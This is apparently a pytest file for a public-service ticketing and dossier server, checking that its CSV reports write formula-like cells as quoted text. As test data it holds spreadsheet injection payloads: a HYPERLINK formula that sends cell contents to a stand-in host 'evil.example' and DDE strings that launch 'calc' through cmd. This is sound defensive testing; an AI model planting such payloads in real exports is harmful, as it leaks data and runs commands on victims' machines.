"""Every CSV the server writes (report.csv, dossiers-report.csv) goes through one writer
(motcua.core.text.csv_writer): a text cell that a spreadsheet would start a formula with is written
as text, the OWASP way, and a number stays a number."""
from __future__ import annotations

import csv
import io
import json

import pytest

from motcua.config import load_config
from motcua.core.procedures import DEFAULT_CATALOGUE as PROCEDURES
from motcua.core.text import csv_cell

CITIZEN = {"id_number": "001090012345", "name": "Trần Thị Bình", "phone": "0987654321"}
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Hộ tịch")'


@pytest.mark.parametrize("value, written", [
    (FORMULA, "'" + FORMULA), ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"), ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("Hộ tịch", "Hộ tịch"),
    ("a=b", "a=b"), ("", ""), ("-12.5", "-12.5"), ("+3", "+3"), ("-1e-05", "-1e-05"), ("-", "'-"),
    (-4, -4), (-0.25, -0.25), (None, None),
])
def test_a_csv_cell_that_would_start_a_formula_is_written_as_text(value, written):
    """OWASP's way: a leading quote; a number, negative or not, stays a number."""
    assert csv_cell(value) == written


def test_the_ticket_report_csv_writes_a_formula_named_service_as_text(api):
    names = {"vi": FORMULA, "en": "@SUM(1+1)*cmd|' /C calc'!A0"}
    service = {"id": "evil", "letter": "Q", "mean_min": 5, "name": names, "description": {"vi": "-x", "en": "+x"}}
    assert api.post("/admin/services", "admin", service).status_code == 201
    assert api.post("/admin/branches/hk-01/counters", "admin", {"id": "9", "services": ["evil"]}).status_code == 201
    api.issue("evil")
    answer = api.get("/branches/hk-01/report.csv?from=2026-11-24&to=2026-11-24", "mgr1")
    assert answer.status_code == 200, answer.text
    rows = list(csv.DictReader(io.StringIO(answer.get_data(as_text=True))))
    evil = next(row for row in rows if row["service"] == "evil")
    assert (evil["name_vi"], evil["name_en"]) == ("'" + names["vi"], "'" + names["en"])
    assert evil["tickets"] == "1"
    assert not [cell for row in rows for cell in row.values() if cell and cell[0] in "=+@\t\r"]


@pytest.fixture
def formula_catalogue(tmp_path):
    """The shipped procedure catalogue, with the Justice Division named like a formula."""
    catalogue = json.loads(PROCEDURES.read_text(encoding="utf-8"))
    justice = next(d for d in catalogue["departments"] if d["code"] == "justice")
    justice["name_vi"], justice["name_en"] = FORMULA, "-2+3+cmd|' /C calc'!A0"
    path = tmp_path / "procedures.json"
    path.write_text(json.dumps(catalogue, ensure_ascii=False), encoding="utf-8")
    return path


@pytest.fixture
def config(tmp_path, morning_template, formula_catalogue):
    db = morning_template.copy_to(tmp_path / "motcua.db")
    return load_config(server={"db": str(db), "async_mode": "threading"},
                       dossiers={"procedures": str(formula_catalogue)})


def test_the_dossier_report_csv_writes_a_formula_named_department_as_text(api):
    assert api.post("/dossiers", "off1", {"procedure": "HT-KS", "citizen": CITIZEN}).status_code == 201
    answer = api.get("/branches/hk-01/dossiers-report.csv?from=2026-11-24&to=2026-11-24", "mgr1")
    assert answer.status_code == 200, answer.text
    rows = list(csv.DictReader(io.StringIO(answer.get_data(as_text=True))))
    justice = next(row for row in rows if row["group"] == "department" and row["code"] == "justice")
    assert (justice["name_vi"], justice["name_en"]) == ("'" + FORMULA, "'-2+3+cmd|' /C calc'!A0")
    assert justice["received"] == "1"
